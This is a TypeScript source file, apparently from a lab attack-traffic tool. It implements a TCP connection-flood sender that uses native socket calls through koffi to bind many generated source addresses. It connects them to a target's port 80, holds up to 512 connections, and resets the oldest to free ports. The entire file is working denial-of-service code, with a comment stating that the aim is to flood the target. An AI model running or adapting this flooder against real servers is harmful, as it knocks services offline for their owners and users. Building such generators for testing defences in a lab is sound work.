/**
 * Real TCP connections from many sources, opened as fast as asked and held for a while.
 *
 * At most 512 are open at once, fewer than a server's usual limit of descriptors: the target is to be flooded, not to be
 * ended. The oldest makes room for the next and is reset, so that no closing handshake holds ports.
 */
import koffi from 'koffi';
import { CodedError } from '#common/errors/index.ts';
import { parseAddress } from '#common/ip/index.ts';
import { type AttackOrder, sourcesOf } from './attack-order.ts';
import type { AttackSender } from './senders.ts';
import { createSources } from './sources.ts';

const sockStream = 1;
const sockNonblock = 0o4000;
const sockCloexec = 0o2000000;
const solSocket = 1;
const soLinger = 13;
const servedPort = 80;
const openMax = 512;
const { EADDRINUSE: inUse, EINPROGRESS: inProgress } = koffi.os.errno;

function loadLibrary() {
  const library = koffi.load(null);
  return {
    socket: library.func('int socket(int domain, int type, int protocol)'),
    setsockopt: library.func(
      'int setsockopt(int fd, int level, int name, const void *value, uint32_t length)',
    ),
    bind: library.func('int bind(int fd, const void *address, uint32_t length)'),
    connect: library.func('int connect(int fd, const void *address, uint32_t length)'),
    getpeername: library.func('int getpeername(int fd, void *address, void *length)'),
    close: library.func('int close(int fd)'),
  };
}

type Library = ReturnType<typeof loadLibrary>;

export function openConnectionFlood(order: AttackOrder): AttackSender {
  const c = loadLibrary();
  const isIpv4 = !order.target.includes(':');
  const random = () => Math.floor(Math.random() * 2 ** 32);
  const sources = createSources(sourcesOf(order.attackClass, order.target), order.from, random);
  const target = socketAddress(parseAddress(order.target)!, servedPort);
  const source = socketAddress(parseAddress(order.target)!, 0);
  const open: number[] = [];
  let answered = 0;

  const end = (fd: number) => {
    if (isConnected(c, fd)) answered += 1;
    c.close(fd);
  };
  const openNext = (): boolean => {
    if (open.length >= openMax) end(open.shift()!);
    const fd = openSocket(c, isIpv4);
    const words = sources.next();
    for (const [i, word] of words.entries()) source.writeUInt16BE(word, (isIpv4 ? 4 : 8) + 2 * i);
    if (c.bind(fd, source, source.length) !== 0) {
      const errno = koffi.errno();
      c.close(fd);
      // All ports of this source are taken for the moment.
      if (errno === inUse) return false;
      throw new CodedError('lab.attack_failed', `Could not bind to a source: errno ${errno}`);
    }
    open.push(fd);
    const errno = c.connect(fd, target, target.length) === 0 ? 0 : koffi.errno();
    return errno === 0 || errno === inProgress;
  };
  return {
    send(count) {
      let sent = 0;
      for (let i = 0; i < count; i += 1) if (openNext()) sent += 1;
      return sent;
    },
    answered: () => answered,
    close() {
      for (const fd of open.splice(0)) end(fd);
    },
  };
}

function openSocket(c: Library, isIpv4: boolean): number {
  const fd: number = c.socket(isIpv4 ? 2 : 10, sockStream | sockNonblock | sockCloexec, 0);
  if (fd < 0) throw new CodedError('lab.attack_failed', `Could not open a socket: errno ${koffi.errno()}`);
  // On, with no time: closing sends a reset.
  const linger = Buffer.alloc(8);
  linger.writeInt32LE(1, 0);
  c.setsockopt(fd, solSocket, soLinger, linger, linger.length);
  return fd;
}

/** True when the peer has answered and the connection stands. */
function isConnected(c: Library, fd: number): boolean {
  const length = Buffer.alloc(4);
  const address = Buffer.alloc(28);
  length.writeUInt32LE(address.length);
  return c.getpeername(fd, address, length) === 0;
}

/** `sockaddr_in` or `sockaddr_in6`. */
function socketAddress(bytes: Uint8Array, port: number): Buffer {
  const isIpv4 = bytes.length === 4;
  const address = Buffer.alloc(isIpv4 ? 16 : 28);
  address.writeUInt16LE(isIpv4 ? 2 : 10, 0);
  address.writeUInt16BE(port, 2);
  address.set(bytes, isIpv4 ? 4 : 8);
  return address;
}
